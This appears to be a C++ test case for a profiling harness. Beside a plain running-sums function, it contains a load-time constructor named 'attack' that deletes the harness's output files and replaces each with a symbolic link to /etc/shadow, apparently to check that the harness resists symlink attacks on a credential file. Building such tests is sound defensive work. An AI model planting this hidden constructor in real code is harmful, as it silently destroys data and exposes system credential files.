// expect: profiled
// task: profiled
// Makes every file that the harness may read a link to a file that only root may read.
#include "task.hpp"
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

static const char* names[] = {"plan", "lull.out", "profile.coz", "output", "lull.so", "program", "callgrind.out.1",
                              "dhat.out.1", "perf.data"};

__attribute__((constructor)) static void attack() {
    if (access("/proc/self", F_OK) != 0) return;  // only where a profiler looks on
    for (const char* name : names) {
        unlink(name);
        if (symlink("/etc/shadow", name) != 0) continue;
    }
}

extern "C" void running_sums(const std::uint32_t* numbers, std::size_t count, std::uint64_t* sums) {
    std::uint64_t sum = 0;
    for (std::size_t i = 0; i < count; ++i) sums[i] = sum += worth(numbers[i]);
}
